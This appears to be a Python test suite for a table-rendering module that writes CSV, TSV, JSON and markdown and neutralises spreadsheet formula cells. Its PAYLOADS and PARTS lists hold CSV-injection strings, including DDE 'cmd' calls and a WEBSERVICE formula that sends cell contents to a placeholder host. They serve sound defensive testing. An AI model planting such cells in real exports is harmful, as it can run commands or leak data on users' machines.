"""Rows as text: tables, csv, tsv and json; cells that spreadsheets cannot run."""

import csv
import io
import json
import re
from fractions import Fraction
from itertools import product
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crisps24.output import tables
from tests.sampling import in_one_test

ROWS: list[dict[str, Any]] = [
    {"name": "=A1", "share": 0.25, "bits": 1.5, "count": 3, "list": ["a", "b"], "yes": True},
    {"name": "-x", "share": 1.0, "bits": -10.25, "count": None, "list": [], "yes": False},
]


@given(st.text())
def test_plain_cell_undoes_safe_cell(cell: str) -> None:
    assert tables.plain_cell(tables.safe_cell(cell)) == cell
    assert tables.safe_cell(cell).replace("'", "") == cell.replace("'", "")


@given(st.text(st.sampled_from("=-1a;' \"\r\n\t")))
def test_no_part_of_a_safe_cell_is_a_formula(cell: str) -> None:
    assert tables.plain_cell(tables.safe_cell(cell)) == cell
    for part in re.split("[;\r\n]", tables.safe_cell(cell)):
        # A single sign is not a formula.
        assert re.match(r"[\"\s]*(=|-(?!\s?[0-9]+\s*\Z|\s*\Z))", part) is None


PAYLOADS = [
    *("=A1", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+2+3+cmd|' /C calc'!A0"),
    *('-1+HYPERLINK("http://x","y")', '-2+WEBSERVICE("http://x/"&A1)', "-(1)+A1", "-.5+A1"),
    *("-5\n+A1", "-5\t", "- -A1", "−2+A1", "＝A1", "＋A1", "－A1", "＠SUM(A1)", " =A1", "+.;A1"),
    *("\u00a0-A1", "\ufeff=A1", "\0=A1", "\t=A1", "\r=A1", "\n=5", "-", "+; x", "+1e5", "-٣"),
    *("-1/2/3", "-1.", "'=A1", '"=A1"', "\u2060=A1"),
]
# A spreadsheet can split a cell at ; and at line ends.
PARTS = ["1; =A1", "1;=cmd|' /C calc'!A0;", 'a;"=A1"', "3\n=A1", "3\r\n-A1", "1;\0+A1", "1;-2+A1;3"]
NUMBERS = ["-5", "+3", "- 5", "−5", "-.5", "-2.5", "2.5", "3/4", "-3/4", "+3/4", "24", "-0"]
TEXTS = ["", "x", "4 + 3 x 8 - 4", "(1 + 2)", "1=1", "a@b", "8 / (3 - 8 / 3) = 24", "é", "1; -2; 3"]


@in_one_test("payload", *PAYLOADS)
def test_spreadsheets_do_not_run_a_cell(payload: str) -> None:
    safe = tables.safe_cell(payload)
    assert safe[0] == "'"
    assert safe.replace("'", "") == payload.replace("'", "")
    row: dict[str, Any] = {"name": payload, payload: 1}
    written = "\n".join(tables.TABLE_FORMATS["csv"].lines([row], list(row)))
    assert all(safe in cells for cells in csv.reader(io.StringIO(written, newline="")))
    for line in tables.TABLE_FORMATS["tsv"].lines([row], list(row)):
        assert any(cell.startswith("'") for cell in line.split("\t"))


@in_one_test("payload", *PARTS)
def test_spreadsheets_do_not_run_a_part_of_a_cell(payload: str) -> None:
    lines = "\n".join(tables.TABLE_FORMATS["csv"].lines([{"a": "x", "b": payload}], ["a", "b"]))
    cells = [cell for row in csv.reader(io.StringIO(lines), delimiter=";") for cell in row]
    assert not any(cell.strip().startswith(("=", "+", "-")) for cell in cells)
    assert any(cell.startswith("'") for cell in cells)
    assert tables.plain_cell(tables.safe_cell(payload)) == payload


@in_one_test("cell", *NUMBERS, *TEXTS)
def test_numbers_and_other_texts_are_unchanged(cell: str) -> None:
    assert tables.safe_cell(cell) == cell


def test_after_a_sign_only_a_number_is_safe() -> None:
    for letters in map("".join, product(*(("", *"5./ x;\n٥"),) * 4)):
        number = letters.removeprefix(" ")
        is_number = all(part.isdecimal() for part in re.split("[./]", number, maxsplit=1))
        is_safe = (is_number or re.fullmatch(r"\.\d+", number)) and letters.isascii()
        for sign in "+-−＋－":
            assert (tables.safe_cell(sign + letters) == sign + letters) == bool(is_safe), letters


@given(st.sampled_from("=@\t\r\n＝＠"), st.text())
def test_cells_with_other_signs_are_never_safe(sign: str, rest: str) -> None:
    assert tables.safe_cell(sign + rest).startswith(f"'{sign}")


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), min_size=1))
def test_csv_can_be_read_back_and_a_row_of_tsv_is_one_line(cells: list[list[str]]) -> None:
    rows = [{"a": first, "b": second} for first, second in cells]
    text = "\n".join(tables.TABLE_FORMATS["csv"].lines(rows, ["a", "b"]))
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert [[tables.plain_cell(cell) for cell in row] for row in read] == [["a", "b"], *cells]
    lines = list(tables.TABLE_FORMATS["tsv"].lines(rows, ["a", "b"]))
    assert [line.count("\t") for line in lines] == [1] * (len(cells) + 1)
    assert all("\n" not in line and "\r" not in line for line in lines)


def test_rows_are_written_in_every_format() -> None:
    assert tables.render(ROWS) == (
        "name      share    bits    count  list    yes\n"
        "------  -------  ------  -------  ------  -----\n"
        "=A1      25.00%    1.5         3  a       yes\n"
        "                                  b\n"
        "-x      100.00%  -10.25                   no"
    )
    assert tables.render(ROWS, "csv").splitlines() == [
        "name,share,bits,count,list,yes",
        "'=A1,0.25,1.5,3,a; b,true",
        "'-x,1.0,-10.25,,,false",
    ]
    assert tables.render(ROWS, "tsv").splitlines()[1] == "'=A1\t0.25\t1.5\t3\ta; b\ttrue"
    assert json.loads(tables.render(ROWS, "json")) == ROWS
    assert [json.loads(line) for line in tables.render(ROWS, "jsonl").splitlines()] == ROWS
    assert tables.render([{"value": Fraction(3, 4)}], "json") == '[{"value": "3/4"}]'
    assert tables.render([], "json") == "[]"
    assert tables.render([], "csv") == ""
    with pytest.raises(TypeError, match="cannot be written as json"):
        tables.render([{"value": 1j}], "json")


@in_one_test("form", "csv", "tsv", "github", "table")
def test_dict_in_a_cell_is_json(form: str) -> None:
    rules = {"zero": False, "numbers": ["ü", Fraction(3, 4)], "none": None}
    written = '{"zero": false, "numbers": ["ü", "3/4"], "none": null}'
    text = tables.render([{"id": 1, "rules": rules, "some": [rules, True]}], form)
    assert text.replace('""', '"').count(written) == 2
    assert "True" not in text


def test_table_has_the_shown_keys_and_json_all() -> None:
    table = tables.render(ROWS, shown=["count", "name", "nothing"])
    assert table.splitlines()[0] == "  count  name"
    assert tables.render(ROWS, "csv", ["count"]).splitlines()[0].count(",") == 5
    assert tables.render([], shown=["count", "name"]).splitlines()[0].split() == ["count", "name"]


def test_bar_in_a_cell_of_markdown_is_escaped_and_signs_in_html() -> None:
    for form in ("github", "pipe"):
        head, _, line = tables.render([{"a|b": "1|2", "c": 3}], form).splitlines()
        assert [re.findall(r"(?<!\\)\|", each) for each in (head, line)] == [["|"] * 3] * 2
        assert r"1\|2" in line
    assert "&lt;b&gt;" in tables.render([{"name": "<b>"}], "html")


def test_known_format_is_accepted() -> None:
    for name in tables.format_names():
        assert tables.check_format(name) == name
        assert tables.render(ROWS, name)
    # Those without escapes are unknown.
    for name in ("unsafehtml", "latex_raw", "xls"):
        with pytest.raises(ValueError, match=rf"unknown format '{name}' \(expected table, csv"):
            tables.check_format(name)


LONG = "one two three four five six seven eight nine ten eleven twelve"


def test_table_has_at_most_the_given_width() -> None:
    rows = [{"name": LONG, "numbers": 12345, "other": f"{LONG} {place}"} for place in range(3)]
    words = [word for row in rows for word in f"{row['name']} {row['other']}".split()]
    for width in (30, 40, 60, 80):
        text = tables.render(rows, width=width)
        assert max(map(len, text.split("\n"))) <= width
        assert sorted(word for word in text.split() if word in words) == sorted(words)
    assert tables.render(rows, width=500) == tables.render(rows)
    for form in ("csv", "json", "jsonl", "tsv", "github"):
        assert tables.render(rows, form, width=20) == tables.render(rows, form)


def test_column_of_text_is_at_least_as_wide_as_its_longest_word() -> None:
    rows = [{"text": "unquestionably so"}, {"text": "no"}]
    assert tables.render(rows, width=14).splitlines()[1] == "-" * len("unquestionably")
    rows = [{"text": "12,345", "more": "some words that are too long for the line"}]
    assert tables.render(rows, width=30).splitlines() == [
        *("text    more", "------  ---------------------", "12,345  some words that are"),
        *("        too long for the line",),
    ]


def test_too_wide_table_has_a_paragraph_per_row_with_indented_lines() -> None:
    rows = [{f"key{place}": 10**9 + place for place in range(12)}] * 2
    lines = [f"key{place:<2}  {10**9 + place}" for place in range(12)]
    assert tables.render(rows, width=60) == "\n".join([*lines, "", *lines])
    text = tables.render([{"number": 12, "text": "a text of twenty-two"}], width=18)
    assert text == "number  12\ntext    a text of\n        twenty-two"


def test_rows_go_on_with_a_table() -> None:
    rows: list[tables.Row] = [{"line": 1, "steps": ["1 + 2", "3 x 8"]}, {"line": 2, "steps": []}]
    head = tables.render(rows).split("\n")
    assert tables.render(rows, rule=head[1]).split("\n") == head[2:]
    wide = {"line": 12345678, "steps": ["3"]}
    assert tables.render([wide, *rows], rule=head[1]).split("\n") == ["12345678  3", *head[2:]]
